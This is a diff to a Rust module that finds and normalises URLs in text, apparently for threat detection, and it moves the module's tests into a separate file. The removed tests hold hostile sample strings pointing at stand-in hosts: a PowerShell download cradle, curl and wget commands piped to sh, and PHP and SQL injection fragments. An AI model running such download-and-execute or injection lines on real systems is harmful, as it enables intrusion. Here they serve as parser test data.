@@ -54,7 +54,9 @@ impl Url {
         Self::of(scheme, rest).or_else(|| {
             // `http://evil.example;id`: what no host has ends the URL.
             let end = rest.find([',', ';', '&', '(', ')', '=', '*', '$', '\'', '/', '?', '#'])?;
-            Self::of(scheme, &rest[..end])
+            // Behind an apostrophe no shell begins another word: what stands before a host is not where it leads.
+            let is_of_a_user = rest[end..].starts_with('\'') && end < start_of_the_host(rest, false);
+            (!is_of_a_user).then(|| Self::of(scheme, &rest[..end]))?
         })
     }
 
@@ -81,7 +83,7 @@ impl Url {
 
         let mut text = format!("{scheme}://");
         if let Some(user) = user {
-            text.push_str(user);
+            text.push_str(&user.replace('\'', "%27"));
             text.push('@');
         }
         match &host {
@@ -199,10 +201,30 @@ fn may_open(before: char) -> bool {
 }
 
 /// Length of what starts with `://` and belongs to a URL, as people say where one ends. One that stands inside of apostrophes ends at the
-/// next; in any other it is a letter like others where the URL goes on behind it, since what is cut there is another URL.
+/// next; in any other it is a letter like others where the URL goes on behind it, since what is cut there is another URL. Before the host,
+/// where a name of a user may stand, one ends nothing.
 fn end_of(text: &str, quoted: bool) -> usize {
-    let mut ends = text.match_indices(ends);
-    let end = ends.find(|(at, end)| quoted || *end != "'" || !goes_on(&text[at + 1..]));
+    const MARK: usize = "://".len();
+    let mut host = None;
+    let mut ends_there = |at: usize| {
+        let host = *host.get_or_insert_with(|| {
+            let host = MARK + start_of_the_host(&text[MARK..], false);
+            let goes_on_as_a_word = || {
+                text[at..host]
+                    .chars()
+                    .all(|c| c.is_alphanumeric() || "'.-_~%:@".contains(c))
+            };
+            if at < host && (!quoted || goes_on_as_a_word()) {
+                host
+            } else {
+                0
+            }
+        });
+        at >= host && (quoted || !goes_on(&text[at + 1..]))
+    };
+    let end = text
+        .match_indices(ends)
+        .find(|(at, end)| *end != "'" || ends_there(*at));
     let url = &text[..end.map_or(text.len(), |(at, _)| at)];
     let url = url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'']);
     let url = if url.contains('(') {
@@ -211,6 +233,25 @@ fn end_of(text: &str, quoted: bool) -> usize {
         url.trim_end_matches(')')
     };
     url.len().max(3)
+}
+
+/// Where the host begins in what stands behind `://`, as itself or escaped once or twice: behind the last `@` before the path, else at once.
+fn start_of_the_host(text: &str, escaped: bool) -> usize {
+    let mut host = 0;
+    for (at, c) in text.char_indices() {
+        let is = |sign: char, once: &str, twice: &str| {
+            let rest = &text.as_bytes()[at..];
+            c == sign || (escaped && c == '%' && (starts(rest, once) || starts(rest, twice)))
+        };
+        if is('@', "%40", "%2540") {
+            host = at + 1;
+        }
+        let is_behind = is('/', "%2f", "%252f") || is('?', "%3f", "%253f") || is('#', "%23", "%2523");
+        if is_behind || (ends(c) && c != '\'') || (escaped && c == '&') {
+            break;
+        }
+    }
+    host
 }
 
 fn goes_on(after: &str) -> bool {
@@ -224,8 +265,8 @@ fn goes_on(after: &str) -> bool {
 /// `ldap://127.0.0.1#evil.example/a`.
 pub(crate) fn places(text: &str) -> impl Iterator<Item = Host> {
     text.match_indices("://").flat_map(|(at, mark)| {
-        let place = &text[at + mark.len()..];
-        let place = &place[..place.find(|c| ends(c) || matches!(c, '/' | '?')).unwrap_or(place.len())];
+        let place = &text[at + mark.len()..at + end_of(&text[at..], false)];
+        let place = &place[..place.find(['/', '?']).unwrap_or(place.len())];
         place
             .split('#')
             .filter_map(|place| Some(Url::read(&format!("ldap://{place}"))?.host))
@@ -243,20 +284,27 @@ pub(crate) fn escaped(text: &str) -> Vec<String> {
     let mut done = 0;
     let mut at = 0;
     while at < bytes.len() {
-        let here = matches!(bytes[at], b'%' | b':') && MARKS.iter().any(|mark| starts(&bytes[at..], mark));
-        if !here {
+        let is_here = |mark: &&&str| matches!(bytes[at], b'%' | b':') && starts(&bytes[at..], mark);
+        let Some(mark) = MARKS.iter().find(is_here) else {
             at += 1;
             continue;
-        }
+        };
         let scheme = bytes[done..at]
             .iter()
             .rev()
             .take_while(|byte| byte.is_ascii_alphabetic())
             .count();
-        let end = text[at..]
+        let behind = at + mark.len();
+        let mut host = None;
+        let mut ends_there = |at: usize| {
+            let host = *host.get_or_insert_with(|| behind + start_of_the_host(&text[behind..], true));
+            at >= host && !goes_on(&text[at + 1..])
+        };
+        let end = text[behind..]
             .match_indices(|c| ends(c) || c == '&')
-            .find(|(length, end)| *end != "'" || !goes_on(&text[at + length + 1..]))
-            .map_or(text.len(), |(length, _)| at + length);
+            .map(|(length, end)| (behind + length, end))
+            .find(|(at, end)| *end != "'" || ends_there(*at))
+            .map_or(text.len(), |(at, _)| at);
         let once = decoded(&text[at - scheme..end]);
         let plain = if once.contains("://") {
             once
@@ -373,201 +421,4 @@ pub(crate) fn armed(text: &str) -> Cow<'_, str> {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn urls_end_where_people_say_they_end() {
-        let text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1'); see https://x.example/a(b)?q=1, ftp://y.example. \
-                    file://z http:// ://";
-        let found: Vec<_> = all(text).collect();
-        assert_eq!(
-            found,
-            [
-                "http://203.0.113.66/a.ps1",
-                "https://x.example/a(b)?q=1",
-                "ftp://y.example",
-                "http://"
-            ]
-        );
-    }
-
-    #[test]
-    fn an_apostrophe_ends_a_url_only_where_one_began_it_or_nothing_follows() {
-        for (text, expected) in [
-            ("/a?x=http://evil.example/b'c", "http://evil.example/b'c"),
-            ("http://evil.example/it's/d'%41'", "http://evil.example/it's/d'%41"),
-            ("fetch('http://evil.example/b'c)", "http://evil.example/b"),
-            ("wget http://evil.example/b' | sh", "http://evil.example/b"),
-            ("'x http://evil.example/b'+'c'", "http://evil.example/b"),
-            ("('http://evil.example/b','c')", "http://evil.example/b"),
-            ("/a?x=http://evil.example/shell.txt'--", "http://evil.example/shell.txt"),
-            (
-                "/a?x=http://evil.example/shell.txt'/**/or",
-                "http://evil.example/shell.txt",
-            ),
-            (
-                "iex ('curl http://evil.example/a.exe'.Replace('x','y'))",
-                "http://evil.example/a.exe",
-            ),
-            ("sh -c 'it''s; curl http://evil.example/a'_b", "http://evil.example/a"),
-            ("it's here: http://evil.example/b'c", "http://evil.example/b'c"),
-            (
-                "users' files: http://evil.example/O'Neil/payload.exe",
-                "http://evil.example/O'Neil/payload.exe",
-            ),
-            (
-                "echo O'; wget http://evil.example/O'Neil.exe",
-                "http://evil.example/O'Neil.exe",
-            ),
-            (
-                r"echo 'it'\''s'; curl http://evil.example/x'y",
-                "http://evil.example/x'y",
-            ),
-            (
-                r"copy 'C:\x\' y; curl http://evil.example/x'y",
-                "http://evil.example/x'y",
-            ),
-            (r"x = 'it\'s http://evil.example/a'_b", "http://evil.example/a"),
-            (
-                "/?x=http://evil.example/a.txt'.system('id')",
-                "http://evil.example/a.txt",
-            ),
-            ("/?x=http://evil.example/a.txt'.$_GET[c].'", "http://evil.example/a.txt"),
-            ("/?x=http://evil.example/a.txt'.@system(x)", "http://evil.example/a.txt"),
-            ("/?x=http://evil.example/a.txt'.PHP_EOL.'", "http://evil.example/a.txt"),
-            (
-                "/?x=http://evil.example/a.txt'.print`id`.'",
-                "http://evil.example/a.txt",
-            ),
-            ("/?x=http://evil.example/a.txt'.'x", "http://evil.example/a.txt"),
-            ("curl http://evil.example/o'... | sh", "http://evil.example/o"),
-            (
-                "exec $'a\\n' \"b\" x='c' http://evil.example/x'y",
-                "http://evil.example/x'y",
-            ),
-        ] {
-            assert_eq!(all(text).collect::<Vec<_>>(), [expected], "{text}");
-        }
-        assert_eq!(
-            escaped("x=http%3A%2F%2Fevil.example%2Fb'c&y=1 http%3A%2F%2Fevil.example%2Fd%27e"),
-            ["http://evil.example/b'c", "http://evil.example/d'e"]
-        );
-    }
-
-    #[test]
-    fn urls_inside_of_urls_count_too_and_so_does_what_stands_behind_an_unknown_scheme() {
-        for (text, expected) in [
-            (
-                "https://a.example/?to=http://b.example/x.",
-                &["https://a.example/?to=http://b.example/x", "http://b.example/x"][..],
-            ),
-            (
-                "http://a.example/x,http://b.example/y",
-                &["http://a.example/x,http://b.example/y", "http://b.example/y"],
-            ),
-            ("php://filter/resource=http://b.example/x", &["http://b.example/x"]),
-            ("file:///c:/a;http://b.example/x", &["http://b.example/x"]),
-        ] {
-            assert_eq!(all(text).collect::<Vec<_>>(), expected, "{text}");
-        }
-        assert_eq!(all(&"http://".repeat(1_000)).count(), 1 + MAX_INSIDE);
-    }
-
-    #[test]
-    fn one_url_has_one_form_however_it_is_written() {
-        for (form, spellings) in [
-            (
-                "http://evil.example/a",
-                &[
-                    "http://evil.example/a",
-                    "HTTP://Evil.Example/a",
-                    "hxxp://evil.example/a",
-                    "http://evil.example:80/a",
-                    "http://evil.example:/a",
-                    "http://evil.example./a",
-                    "http://%65vil.example/%61",
-                ][..],
-            ),
-            (
-                "https://evil.example/",
-                &["https://evil.example", "https://EVIL.example:443/"],
-            ),
-            ("https://evil.example/?a=1", &["https://evil.example?a=1"]),
-            ("http://evil.example:443/", &["http://evil.example:443"]),
-            ("http://evil.example/%2F%3A", &["http://evil.example/%2f%3a"]),
-            (
-                "http://203.0.113.10/x",
-                &[
-                    "http://203.0.113.10/x",
-                    "http://3405803786/x",
-                    "http://0xCB00710A/x",
-                    "http://0313.0.0161.012/x",
-                    "http://203.28938/x",
-                    "http://[::ffff:203.0.113.10]/x",
-                ],
-            ),
-            (
-                "http://[2001:db8::1]:8080/x",
-                &["http://[2001:db8:0:0:0:0:0:1]:8080/x", "http://[2001:DB8::0001]:8080/x"],
-            ),
-            (
-                "http://evil.example/b%27c",
-                &["http://evil.example/b'c", "http://evil.example/b%27c"],
-            ),
-            ("http://u:p@evil.example/", &["http://u:p@evil.example"]),
-            ("http://u;x@evil.example/", &["http://u;x@evil.example/"]),
-            (
-                "http://evil.example/",
-                &[
-                    "http://evil.example;id",
-                    "http://evil.example,x/y",
-                    "http://evil.example'x",
-                    "http://evil.example).Content",
-                    "http://evil.example;a@b",
-                ],
-            ),
-            (
-                "http://xn--bcher-kva.example/",
-                &["http://b\u{fc}cher.example/", "http://xn--bcher-kva.example"],
-            ),
-        ] {
-            for spelling in spellings {
-                assert_eq!(
-                    Url::read(spelling).map(|url| url.text).as_deref(),
-                    Some(form),
-                    "{spelling}"
-                );
-            }
-            assert_eq!(Url::read(form).unwrap().text, form, "one form is its own form");
-        }
-        for none in [
-            "http://",
-            "http:///x",
-            "http://host/x",
-            "http://a.pdf/x",
-            "http://evil.example:port/",
-            "file://evil.example/x",
-            "http://[::1",
-        ] {
-            assert_eq!(Url::read(none), None, "{none}");
-        }
-    }
-
-    #[test]
-    fn urls_inside_of_urls_are_found() {
-        assert_eq!(
-            escaped(
-                "/?u=http%3A%2F%2Fevil.example%2Fa%20b&v=HTTPS%253a%252F%252Fx.example%252F&w=ftp:%2f%2fy.example 100% %3A%2F%2F"
-            ),
-            ["http://evil.example/a", "HTTPS://x.example/", "ftp://y.example"]
-        );
-    }
-
-    #[test]
-    fn what_was_disarmed_is_armed_again() {
-        assert_eq!(armed("hxxp[:]//evil[.]example/x"), "hxxp://evil.example/x");
-        assert_eq!(armed("203[.]0(.)113{.}9 a[AT]b[dot]example"), "203.0.113.9 a@b.example");
-        assert!(matches!(armed("f(x) [a] {b}"), Cow::Borrowed("f(x) [a] {b}")));
-    }
-}
+mod tests;
